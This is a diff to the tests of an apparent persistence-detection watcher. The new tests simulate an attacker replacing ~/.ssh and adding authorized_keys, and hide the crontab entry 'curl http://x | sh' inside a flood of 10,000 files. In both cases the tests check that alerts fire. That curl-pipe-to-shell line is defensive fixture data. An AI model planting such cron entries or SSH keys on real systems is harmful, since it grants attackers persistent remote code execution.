@@ -131,6 +131,19 @@ def _write_and_wait(path: Path, text: str) -> subprocess.Popen[str]:
     return proc
 
 
+def test_a_replaced_ssh_directory_is_watched_again(tmp_path: Path, watch_factory):
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    place = PersistencePlace("~/.ssh/authorized_keys", "T1098.004", "authorized_keys",
+                             severity="medium")
+    watch, published = watch_factory([place], [str(home)])
+    subprocess.run(["/bin/sh", "-c", f"cd '{home}' && mv .ssh .ssh.old && mkdir .ssh && "
+                    f"echo '{KEY}' > .ssh/authorized_keys; sleep 0.5"], check=True)
+    tick_until(watch, lambda p: any(a.rule_id == "persistence.authorized_key"
+                                    for a in alerts(p)), published)
+    assert any(a.rule_id == "persistence.authorized_key" for a in alerts(published))
+
+
 def test_expected_verified_writer_is_low_and_others_alert(tmp_path: Path, watch_factory):
     etc = tmp_path / "etc"
     etc.mkdir()
@@ -188,7 +201,8 @@ def test_new_directory_after_start_and_hostile_names(tmp_path: Path, watch_facto
     assert any("+ ExecStart=/x" in c.lines for c in changes(published))
 
 
-def test_burst_is_summarised_not_stored(tmp_path: Path, watch_factory):
+def test_burst_is_summarised_and_a_change_hidden_in_it_still_found(tmp_path: Path,
+                                                                   watch_factory):
     spool = tmp_path / "spool"
     spool.mkdir()
     place = PersistencePlace(str(spool), "T1053.003", "crontab")
@@ -198,19 +212,22 @@ def test_burst_is_summarised_not_stored(tmp_path: Path, watch_factory):
     cfg = watch.cfg
     for i in range(10_000):
         (spool / f"f{i}").write_bytes(b"")
+        if i == 5000:  # the real change, hidden in the flood
+            (spool / "job").write_text("* * * * * root curl http://x | sh\n")
     tick_until(watch, lambda p: watch.changes_seen >= cfg.burst_changes and not watch._queue
-               and sum(b.count for b in watch._bursts.values()) + sum(
+               and sum(b.count for b in list(watch._bursts.values())) + sum(
                    watch.status().drops.values()) >= 10_000, published, limit=60)
     now[0] += cfg.burst_window + 1
     tick_until(watch, lambda p: any(c.count > 1 for c in changes(p)), published)
-    one_by_one = [c for c in changes(published) if c.count == 1]
+    one_by_one = [c for c in changes(published) if c.count == 1 and not c.note]
     summary = [c for c in changes(published) if c.count > 1]
     assert len(one_by_one) == cfg.burst_changes
     lost = watch.status().drops.get("change_events_overflow", 0)
     # each file is a creation and a write-close: one or two events (merged when queued)
     assert 10_000 <= summary[0].count + len(one_by_one) <= 20_000 or lost
-    assert len(summary) == 1
-    assert "counted, not examined one by one" in summary[0].note
+    assert len(summary) == 1 and "counted, not examined one by one" in summary[0].note
+    entry = [a for a in alerts(published) if a.rule_id == "persistence.schedule_entry"]
+    assert entry and "curl http://x | sh" in entry[0].reasons[0]
 
 
 def test_queue_overflow_is_reported_as_a_drop(tmp_path: Path):
